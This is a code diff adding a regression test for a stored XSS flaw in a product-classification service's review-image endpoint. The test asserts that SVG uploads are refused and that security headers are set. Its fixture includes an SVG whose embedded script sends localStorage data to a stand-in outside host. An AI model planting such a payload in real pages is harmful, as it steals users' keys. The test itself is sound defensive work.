@@ -191,6 +191,33 @@ def test_image_paths_cannot_leave_the_image_root(store_dir: Path, tmp_path: Path
         assert c.post("/v1/classify", json={"product": {"title": "x", "image_base64": big}}).status_code in (400, 413)
 
 
+def test_review_images_are_only_sniffed_raster_types_never_svg(store_dir: Path, tmp_path: Path) -> None:
+    """Regression (stored XSS): with an .svg in the image root, a product sent with image="logo.svg" and an
+    SVG carrying <script> as image_base64 was served back to reviewers as image/svg+xml (type guessed from the
+    file name) and the script could read the reviewer's key."""
+    import base64
+
+    root = tmp_path / "images"
+    root.mkdir()
+    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("//x/"+localStorage.key)</script></svg>'
+    (root / "logo.svg").write_bytes(svg)
+    (root / "shoe.jpg").write_bytes(b"\xff\xd8\xff\xe0" + b"0" * 100)
+    with make_client(store_dir, tmp_path, image_root=root, audit_rate=1.0) as c:
+        for product in ({"title": "x", "image": "logo.svg", "image_base64": base64.b64encode(svg).decode()},
+                        {"title": "x", "image": "logo.svg"}):
+            r = c.post("/v1/classify", json={"product": product})
+            if r.status_code != 200:  # refused at the door is as good
+                continue
+            rid = r.json()["results"][0]["review_id"]
+            img = c.get(f"/v1/review/{rid}/image")
+            assert img.status_code == 415 and "svg" not in img.headers.get("content-type", "")
+        ok = c.post("/v1/classify", json={"product": {"title": "Nike shoes", "image": "shoe.jpg"}})
+        img = c.get(f"/v1/review/{ok.json()['results'][0]['review_id']}/image")
+        assert img.status_code == 200 and img.headers["content-type"] == "image/jpeg"
+        assert img.headers["x-content-type-options"] == "nosniff"
+        assert "sandbox" in img.headers["content-security-policy"] and "default-src 'none'" in img.headers["content-security-policy"]
+
+
 def test_errors_are_json_without_stack_traces(store_dir: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     with make_client(store_dir, tmp_path, raise_server_exceptions=False) as c:
         svc = c.app.state.service  # type: ignore[attr-defined]
